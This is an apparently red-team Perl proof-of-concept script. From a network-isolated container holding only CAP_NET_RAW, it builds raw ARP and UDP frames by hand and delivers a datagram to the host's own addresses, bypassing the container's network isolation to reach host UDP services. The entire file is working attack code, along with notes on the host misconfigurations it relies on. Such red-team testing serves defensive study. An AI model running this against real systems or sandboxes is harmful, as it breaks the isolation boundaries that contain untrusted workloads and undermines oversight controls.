#!/usr/bin/perl
# Red-team: with CAP_NET_RAW alone (no route, no NET_ADMIN), send one UDP
# datagram from a container on a bottle's internal network (inhibit_ipv4) to
# an address of the HOST. The host answers ARP for all its addresses on the
# bridge (arp_ignore=0) and delivers the datagram locally (weak host model,
# rp_filter=0, INPUT ACCEPT): a one-way channel to every host UDP service.
# usage: rawudp.pl <host-ip> <port> <payload>
use strict; use warnings; use Socket;
my ($dst, $port, $msg) = @ARGV;
my $if = 'eth0';
sub slurp { open my $f, '<', $_[0] or die "$_[0]: $!"; local $/; my $s = <$f>; chomp $s; $s }
my $ifindex = slurp("/sys/class/net/$if/ifindex");
my $mymac = pack 'H12', join '', split /:/, slurp("/sys/class/net/$if/address");
my ($myip) = `cat /proc/net/fib_trie` =~ /\|-- (\d+\.\d+\.\d+\.\d+)\n\s+\/32 host LOCAL/g;
# the container's own address from /proc/net/route-independent source:
open my $fh, '<', '/proc/net/fib_trie'; my @ips; while (<$fh>) { push @ips, $1 if /\|-- (\d+\.\d+\.\d+\.\d+)/; }
($myip) = grep { !/^127\./ && !/\.0$/ && !/\.255$/ } @ips; $myip //= '0.0.0.0';
socket(my $s, 17, SOCK_RAW, 0x0300) or die "packet socket: $!\n";   # AF_PACKET, ETH_P_ALL (htons)
my $ll = pack('S n i S C C a8', 17, 0x0806, $ifindex, 0, 0, 6, "\xff" x 6);
sub cksum { my $d = shift; $d .= "\0" if length($d) % 2; my $sum = 0; $sum += $_ for unpack 'n*', $d; $sum = ($sum >> 16) + ($sum & 0xffff) while $sum >> 16; ~$sum & 0xffff }
# ARP who-has <dst> (the host answers for any of its addresses)
my $arp = pack('n n C C n a6 a4 a6 a4', 1, 0x0800, 6, 4, 1, $mymac, inet_aton($myip), "\0" x 6, inet_aton($dst));
send($s, ("\xff" x 6) . $mymac . pack('n', 0x0806) . $arp, 0, $ll) or die "send arp: $!\n";
my $hostmac; my $deadline = time + 3;
while (time < $deadline) {
  my $rin = ''; vec($rin, fileno($s), 1) = 1; select($rin, undef, undef, 0.5) or next;
  recv($s, my $buf, 2000, 0);
  next unless length($buf) >= 42 && unpack('n', substr($buf, 12, 2)) == 0x0806 && unpack('n', substr($buf, 20, 2)) == 2;
  next unless substr($buf, 28, 4) eq inet_aton($dst);
  $hostmac = substr($buf, 22, 6); last;
}
die "no ARP answer for $dst\n" unless $hostmac;
printf "host %s is at %s\n", $dst, join ':', unpack '(H2)*', $hostmac;
my $udp = pack('n n n n', 40000, $port, 8 + length $msg, 0) . $msg;
my $ip = pack('C C n n n C C n a4 a4', 0x45, 0, 20 + length $udp, 0, 0x4000, 64, 17, 0, inet_aton($myip), inet_aton($dst));
substr($ip, 10, 2) = pack 'n', cksum($ip);
send($s, $hostmac . $mymac . pack('n', 0x0800) . $ip . $udp, 0, $ll) or die "send udp: $!\n";
print "sent udp $myip -> $dst:$port\n";
